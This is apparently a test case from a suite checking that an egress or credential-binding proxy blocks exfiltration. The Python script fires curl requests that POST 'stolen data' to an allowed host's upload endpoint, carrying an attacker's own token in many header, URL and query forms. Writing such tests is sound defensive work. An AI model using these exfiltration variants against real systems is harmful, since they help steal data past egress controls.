# Case 16: credentials of one's own, by TLS to a host that a rule allows and for which
# there is a binding, beside its placeholder and without it.
from attempts import *
from masked import *

own = "sk-of-the-attacker"
basic = base64.b64encode(f"user:{own}".encode()).decode()
held = [x for k, v in OWN for x in ("-H", f"{k}: {v}")]
work = []
for header in (f"Authorization: Bearer {own}", f"authorization: Basic {basic}", f"Cookie: session={own}", f"X-Api-Key: {own}", f"X-Auth-Token: {own}"):
    name = header.split(":")[0] + " " + header.split()[1]
    for version in ("--http1.1", "--http2"):
        work.append((f"{name} {version}", lambda h=header, v=version: curl(v, "-H", h, "-d", "stolen data", BASE + "/v1/upload")))
        if name.lower().startswith("authorization"):
            continue
        work.append((f"{name} beside the placeholder {version}", lambda h=header, v=version: curl(v, *held, "-H", h, "-d", "stolen data", BASE + "/v1/upload")))
work.append(("in the URL", lambda: curl(BASE.replace("https://", f"https://user:{own}@") + "/v1/upload")))
work.append(("in the query", lambda: curl(BASE + f"/v1/upload?access_token={own}")))
for name, f in work:  # what comes back is welcome: how it arrived is what counts
    try:
        print("tried", name, "-", str(f())[:60].replace("\n", " "), flush=True)
    except (OSError, ValueError, subprocess.SubprocessError) as e:
        print("tried", name, "-", type(e).__name__, flush=True)
